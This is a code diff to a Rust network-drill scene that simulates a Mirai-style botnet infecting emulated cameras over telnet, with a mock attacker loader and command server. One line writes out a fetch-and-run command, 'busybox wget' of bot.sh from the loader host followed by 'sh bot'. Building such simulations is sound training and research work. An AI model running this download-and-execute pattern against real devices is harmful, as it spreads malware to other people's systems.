@@ -82,7 +82,7 @@ impl Scene for City {
             net.serve("broker", "mosquitto", mosquitto.arg("-c").arg(settings), "10.50.0.11:1883")?;
         let login = net.folder().join("login.sh");
         std::fs::write(&login, LOGIN)?;
-        let mut telnetd = net.peer("camera2", "inetd 10.50.0.22:23 telnetd -h -E")?;
+        let mut telnetd = net.peer("camera2", "inetd 10.50.0.22:23 telnetd -h -E");
         telnetd.arg(format!("/bin/sh {}", login.display()));
         let mut telnet = net.start("camera2-telnetd", &mut telnetd)?;
         telnet.expect("ready", PATIENCE)?;
@@ -131,7 +131,7 @@ impl Scene for City {
             "cd {} && busybox wget -q -O bot http://{LOADER}/bot.sh && sh bot >/dev/null 2>&1 &",
             home.display()
         );
-        let mut spread = net.peer("camera1", "mirai 10.50.0")?;
+        let mut spread = net.peer("camera1", "mirai 10.50.0");
         let mut process = net.start("camera1-mirai", spread.arg(command))?;
         let first = process.expect("first", PATIENCE)?;
         self.spreading = Some(process);
@@ -158,9 +158,8 @@ impl City {
     /// The attacker's servers, and whom he attacks.
     fn outside(&mut self, net: &Net) -> Done {
         let pages = net.home("loader")?;
-        let program = std::env::current_exe()?;
         // As long as the drill at most.
-        let bot = format!("#!/bin/sh\nsleep 60 | {} peer bot {MASTER}:23\n", program.display());
+        let bot = format!("#!/bin/sh\nsleep 60 | {} peer bot {MASTER}:23\n", net.program().display());
         std::fs::write(pages.join("bot.sh"), bot)?;
         let mut server = net.command("internet", "python3");
         server.args(["-m", "http.server", "--bind", LOADER, "--directory"]).arg(&pages).arg("80");
